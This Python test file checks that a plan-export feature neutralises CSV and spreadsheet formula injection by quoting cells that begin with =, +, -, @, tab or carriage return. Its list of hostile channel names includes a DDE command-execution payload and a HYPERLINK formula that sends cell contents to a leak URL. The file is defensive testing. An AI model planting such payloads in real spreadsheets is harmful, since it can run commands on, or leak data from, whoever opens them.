"""Formula injection: a channel named like a spreadsheet formula reaches the CSV and the
workbook as text (OWASP CSV injection: a leading ``'`` for cells starting with ``= + - @``,
tab or carriage return), and every workbook cell built from data is a string cell."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from assistant import export
from assistant.config import Settings
from assistant.conversation import Conversation
from prompts import seed_prompt
from tools.views import PlanView

HOSTILE = (
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://host/leak?d="&A1)',
)


@pytest.fixture(scope="module")
def seed_plan(tmp_path_factory: pytest.TempPathFactory) -> PlanView:
    conversation = Conversation(
        Settings(data_dir=tmp_path_factory.mktemp("seed"), force_offline=True)
    )
    result = conversation.respond(seed_prompt())
    assert result.json_view.plan is not None, result.reply
    return result.json_view.plan


def _renamed(plan: PlanView, names: tuple[str, ...]) -> PlanView:
    allocations = [
        a.model_copy(update={"channel": name})
        for a, name in zip(plan.allocations, names, strict=False)
    ]
    return plan.model_copy(update={"allocations": allocations, "name": names[0]})


def test_the_neutraliser_quotes_every_formula_start() -> None:
    for text in HOSTILE:
        assert export.neutralised(text) == "'" + text
    for safe in ("Paid search", "Email", "Total", "", "0.5", "'already quoted"):
        assert export.neutralised(safe) == safe


def test_csv_cells_from_data_cannot_start_a_formula(seed_plan: PlanView) -> None:
    plan = _renamed(seed_plan, HOSTILE[:6])
    text = export.plan_csv(plan).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    names = [row[0] for row in rows[1 : 1 + len(plan.allocations)]]
    assert names == ["'" + n for n in HOSTILE[: len(names)]]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            # Numbers are written as numbers: a negative change stays "-5000", not text.
            if cell.startswith("-"):
                float(cell)


def test_workbook_cells_from_data_are_strings_never_formulas(
    seed_plan: PlanView, tmp_path: Path
) -> None:
    plan = _renamed(seed_plan, HOSTILE[:6])
    path = tmp_path / "plan.xlsx"
    path.write_bytes(export.plan_xlsx(plan))
    workbook = load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
    names = [r[0].value for r in workbook["Allocation"].iter_rows(min_row=2)][: len(HOSTILE[:6])]
    # XML reads a carriage return back as a newline; the quote in front is what matters.
    assert names == ["'" + n.replace("\r", "\n") for n in HOSTILE[:6]]


def test_the_workbook_bytes_depend_only_on_the_plan(seed_plan: PlanView) -> None:
    content = export.plan_xlsx(seed_plan)
    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
        assert {entry.date_time for entry in workbook.infolist()} == {(2000, 1, 1, 0, 0, 0)}
        core = workbook.read("docProps/core.xml").decode()
    assert "2000-01-01T00:00:00Z" in core
    assert export.plan_xlsx(seed_plan) == content
